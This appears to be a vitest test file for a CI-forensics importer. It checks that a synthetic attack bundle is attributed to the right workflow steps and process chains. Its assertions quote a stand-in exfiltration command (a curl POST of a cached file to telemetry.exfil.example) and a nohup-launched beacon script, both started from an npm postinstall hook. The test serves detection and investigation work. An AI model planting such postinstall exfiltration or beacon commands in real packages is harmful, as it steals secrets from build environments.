/**
 * The sample bundle (resources/sample-bundle), imported by the real importer (runImport -> finalizeCase): which
 * step, action, process chain and command made each bad call. Also: the folder is exactly what its script writes.
 */
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runImport, type ImportSummary } from '../../electron/import/run-import';
import { formatNanos } from '../../shared/time';

const ROOT = path.resolve(__dirname, '..', '..');
const BUNDLE = path.join(ROOT, 'resources', 'sample-bundle');
let dir: string;
let db: Database.Database;
let summary: ImportSummary;

interface Call {
  id: number;
  ts: bigint;
  pid: number;
  process_id: number;
  domain: string | null;
  domain_origin: string | null;
  ip: string;
  endpoint: string;
  verdict: string;
  http_method: string | null;
  http_path: string | null;
  finding_id: number | null;
  step: number | null;
  step_name: string | null;
  step_uses: string | null;
  running: number | null;
}
interface Proc {
  id: number;
  pid: number;
  parent_id: number | null;
  exe: string | null;
  args: string;
  start: bigint | null;
  step_id: number | null;
  entry_id: number | null;
  root_reason: string | null;
}

const calls = (where: string): Call[] =>
  db
    .prepare(
      `SELECT n.id, n.ts, n.pid, n.process_id, n.domain, n.domain_origin, n.ip, n.endpoint, n.verdict, n.http_method,
              n.http_path, n.finding_id, s.number AS step, s.name AS step_name, s.uses AS step_uses, r.number AS running
       FROM network n LEFT JOIN steps s ON s.id = n.step_id LEFT JOIN steps r ON r.id = n.running_step_id
       WHERE ${where} ORDER BY n.ts`,
    )
    .safeIntegers(true)
    .all()
    .map((r) => {
      const o = r as Record<string, unknown>;
      for (const k of ['id', 'pid', 'process_id', 'finding_id', 'step', 'running']) if (typeof o[k] === 'bigint') o[k] = Number(o[k]);
      return o as unknown as Call;
    });
const proc = (id: number): Proc => {
  const o = db.prepare('SELECT * FROM processes WHERE id = ?').safeIntegers(true).get(id) as Record<string, unknown>;
  for (const k of ['id', 'pid', 'parent_id', 'step_id', 'entry_id']) if (typeof o[k] === 'bigint') o[k] = Number(o[k]);
  return o as unknown as Proc;
};
/** The chain from a process up to its root: `exe args…` per instance, nearest first. */
const chain = (id: number): Proc[] => {
  const out: Proc[] = [];
  for (let p: Proc | null = proc(id); p; p = p.parent_id === null ? null : proc(p.parent_id)) out.push(p);
  return out;
};
const cmd = (p: Proc) => (JSON.parse(p.args) as string[]).join(' ');
const iso = (ns: bigint) => formatNanos(ns);

beforeAll(async () => {
  dir = fs.mkdtempSync(path.join(tmpdir(), 'runlens-sample-'));
  summary = await runImport({ inputs: [BUNDLE], casePath: path.join(dir, 'sample.runlens') });
  db = new Database(path.join(dir, 'sample.runlens'), { readonly: true });
});
afterAll(() => {
  db?.close();
  if (dir) fs.rmSync(dir, { recursive: true, force: true });
});

describe('sample bundle, imported', () => {
  it('loads everything with no warning', () => {
    expect(summary.counts).toMatchObject({ network: 36, dns: 12, processes: 49, process_events: 103, steps: 7, log_lines: 332, files: 18 });
    expect(summary.warnings).toEqual([]);
    const roots = db.prepare('SELECT exe, root_reason FROM processes WHERE parent_id IS NULL').all();
    expect(roots).toEqual([{ exe: '/sbin/init', root_reason: null }]);
  });

  it('the telemetry POST: curl (the reused pid 1827) in the npm ci postinstall, step 4', () => {
    const [c, ...more] = calls("n.endpoint = 'telemetry.exfil.example:443'");
    expect(more).toEqual([]);
    expect(c).toMatchObject({ pid: 1827, verdict: 'outside-policy', http_method: 'POST', http_path: '/v2/collect', step: 4, step_name: 'Run npm ci', running: 4 });
    expect(iso(c!.ts).slice(0, 23)).toBe('2026-10-14T09:12:21.522');
    const ch = chain(c!.process_id);
    expect(ch.map(cmd)).toEqual([
      'curl -sS -X POST https://telemetry.exfil.example/v2/collect -d @/tmp/.npm-cache-8f3a.json',
      'sh -c curl -sS -X POST https://telemetry.exfil.example/v2/collect -d @/tmp/.npm-cache-8f3a.json',
      'node scripts/postinstall.js',
      'sh -c node scripts/postinstall.js',
      '/opt/hostedtoolcache/node/22.20.0/x64/bin/node /opt/hostedtoolcache/node/22.20.0/x64/bin/npm ci',
      'bash -e /home/runner/work/_temp/5c1f0c9e-7a3b-4d2e-8f61-2b9d0e4a7c13.sh',
      '/home/runner/actions-runner/cached/bin/Runner.Worker spawnclient 139 142',
      '/home/runner/actions-runner/cached/bin/Runner.Listener run --startuptype service',
      '/sbin/init splash',
    ]);
    // Merged with the process table row (within 1 ms): the event stream's exe, its ns start.
    expect(ch[0]!.exe).toBe('/usr/bin/curl');
    // The entry process is the worker's child (bash), and the process's step is npm ci.
    expect(ch[0]!.entry_id).toBe(ch[5]!.id);
    // pid 1827 has two instances: git checkout in step 2, then this curl.
    const both = db.prepare('SELECT p.exe, s.number AS step FROM processes p JOIN steps s ON s.id = p.step_id WHERE pid = 1827 ORDER BY start').all();
    expect(both).toEqual([{ exe: '/usr/bin/git', step: 2 }, { exe: '/usr/bin/curl', step: 4 }]);
    // Its file events go to the right instance too: git wrote package.json, curl read the loot.
    const fe = db
      .prepare('SELECT f.path, f.op, p.exe FROM file_events f JOIN processes p ON p.id = f.process_id WHERE f.pid = 1827 ORDER BY f.ts')
      .all() as { path: string; op: string; exe: string }[];
    expect(fe.map((r) => `${r.exe} ${r.op} ${path.basename(r.path)}`)).toEqual([
      '/usr/bin/git write package.json',
      '/usr/bin/git write package-lock.json',
      '/usr/bin/git write index.ts',
      '/usr/bin/curl read .npm-cache-8f3a.json',
    ]);
  });

  it('the beacon: started by npm ci (step 4), calling during npm test (running step 5)', () => {
    const cs = calls("n.endpoint = 'beacon.exfil.example:443'");
    expect(cs).toHaveLength(3);
    for (const c of cs) expect(c).toMatchObject({ pid: 2144, step: 4, step_name: 'Run npm ci', running: 5, verdict: 'outside-policy' });
    expect(new Set(cs.map((c) => c.process_id)).size).toBe(1);
    // The IP-only call got its domain from the beacon's own resolution, not the older mirror.example.net one.
    expect(cs[1]).toMatchObject({ domain: 'beacon.exfil.example', domain_origin: 'dns', ip: '198.51.100.77' });
    const ch = chain(cs[0]!.process_id);
    expect(ch.slice(0, 4).map((p) => p.exe)).toEqual([
      '/opt/hostedtoolcache/node/22.20.0/x64/bin/node',
      '/usr/bin/nohup', // same pid 2144: nohup exec'd node
      '/usr/bin/sh',
      '/opt/hostedtoolcache/node/22.20.0/x64/bin/node',
    ]);
    expect(ch[0]!.pid).toBe(2144);
    expect(ch[1]!.pid).toBe(2144);
    expect(cmd(ch[0]!)).toBe('node .cache/beacon.js');
    expect(cmd(ch[2]!)).toBe('sh -c nohup node .cache/beacon.js >/dev/null 2>&1 &');
    expect(cmd(ch[3]!)).toBe('node scripts/postinstall.js');
    expect(ch.map((p) => p.exe)).toContain('/home/runner/actions-runner/cached/bin/Runner.Worker');
    const end = db.prepare('SELECT end, exit_code FROM processes WHERE id = ?').safeIntegers(true).get(ch[0]!.id) as { end: bigint; exit_code: bigint };
    expect(iso(end.end).slice(0, 23)).toBe('2026-10-14T09:13:52.100');
    expect(Number(end.exit_code)).toBe(143);
  });

  it('every other call is allowed and attributed to the step that made it', () => {
    const ok = calls("n.verdict = 'allowed'");
    expect(ok).toHaveLength(32);
    for (const c of ok) {
      expect(c.finding_id).toBeNull();
      expect(c.step).toBe(c.running);
      expect(c.process_id).not.toBeNull();
    }
    const steps = new Map<string, number[]>();
    for (const c of ok) steps.set(c.endpoint, [...new Set([...(steps.get(c.endpoint) ?? []), c.step!])].sort());
    expect(Object.fromEntries(steps)).toEqual({
      'api.github.com:443': [1, 3, 7],
      'codeload.github.com:443': [1],
      'github.com:443': [2, 3],
      'registry.example.org:443': [4],
    });
    const git = calls("n.endpoint = 'github.com:443' AND n.pid = 1824");
    expect(git.map((c) => c.step_uses)).toEqual(['actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683', 'actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683']);
  });

  it('findings: two of the viewer (high, audit mode), the three detections of the producer, two local detections', () => {
    const fs = db
      .prepare('SELECT f.kind, f.kinds, f.severity, f.origin, f.endpoint, f.calls, d.det_id FROM findings f LEFT JOIN detections d ON d.id = f.detection_id WHERE f.rule IS NULL ORDER BY f.id')
      .all();
    // Local detections: the POSTs outside the allow-list (the beacon's IP-only call has no HTTP method).
    expect(db.prepare('SELECT rule, kind, severity, endpoint, calls FROM findings WHERE rule IS NOT NULL ORDER BY id').all()).toEqual([
      { rule: 'https-exfiltration', kind: 'https-exfiltration', severity: 'high', endpoint: 'telemetry.exfil.example:443', calls: 1 },
      { rule: 'https-exfiltration', kind: 'https-exfiltration', severity: 'high', endpoint: 'beacon.exfil.example:443', calls: 2 },
    ]);
    expect(fs).toEqual([
      { kind: 'anomalous-endpoint', kinds: '["anomalous-endpoint"]', severity: 'high', origin: 'viewer', endpoint: 'telemetry.exfil.example:443', calls: 1, det_id: null },
      { kind: 'anomalous-endpoint', kinds: '["anomalous-endpoint"]', severity: 'high', origin: 'viewer', endpoint: 'beacon.exfil.example:443', calls: 3, det_id: null },
      { kind: 'suspicious-process', kinds: '["suspicious-process"]', severity: 'medium', origin: 'producer', endpoint: null, calls: 0, det_id: 'det-0001' },
      { kind: 'anomalous-endpoint', kinds: '["anomalous-endpoint"]', severity: 'high', origin: 'producer', endpoint: 'telemetry.exfil.example:443', calls: 1, det_id: 'det-0002' },
      { kind: 'anomalous-endpoint', kinds: '["anomalous-endpoint"]', severity: 'high', origin: 'producer', endpoint: 'beacon.exfil.example:443', calls: 3, det_id: 'det-0003' },
    ]);
    const detProcs = db
      .prepare('SELECT d.det_id, p.exe, p.args FROM detections d JOIN processes p ON p.id = d.process_id ORDER BY d.det_id')
      .all() as { det_id: string; exe: string; args: string }[];
    expect(detProcs.map((r) => `${r.det_id} ${(JSON.parse(r.args) as string[]).join(' ')}`)).toEqual([
      'det-0001 node .cache/beacon.js',
      'det-0002 curl -sS -X POST https://telemetry.exfil.example/v2/collect -d @/tmp/.npm-cache-8f3a.json',
      'det-0003 node .cache/beacon.js',
    ]);
  });

  it('the logs mention the bad domains in the step that made the calls', () => {
    const rows = db
      .prepare("SELECT s.number, l.text FROM log_lines l JOIN steps s ON s.id = l.step_id WHERE l.text LIKE '%exfil.example%' ORDER BY l.id")
      .all() as { number: number; text: string }[];
    expect(rows.map((r) => r.number)).toEqual([4, 4]);
    expect(rows.some((r) => r.text.includes('https://telemetry.exfil.example/v2/collect'))).toBe(true);
    expect(rows.some((r) => r.text.includes('beacon.exfil.example'))).toBe(true);
  });
});

describe('sample bundle, its script', () => {
  it('rewrites exactly the files in resources/sample-bundle', () => {
    const out = fs.mkdtempSync(path.join(tmpdir(), 'runlens-sample-gen-'));
    try {
      execFileSync(process.execPath, ['--import', 'tsx', path.join(ROOT, 'scripts', 'make-sample-bundle.ts'), out], { cwd: ROOT, stdio: 'pipe' });
      const list = (d: string): string[] =>
        fs.readdirSync(d, { recursive: true, encoding: 'utf8' }).filter((f) => fs.statSync(path.join(d, f)).isFile()).sort();
      const files = list(out);
      expect(files).toEqual(list(BUNDLE));
      expect(files.length).toBe(15);
      for (const f of files) expect(fs.readFileSync(path.join(out, f)).equals(fs.readFileSync(path.join(BUNDLE, f))), f).toBe(true);
    } finally {
      fs.rmSync(out, { recursive: true, force: true });
    }
  });
});
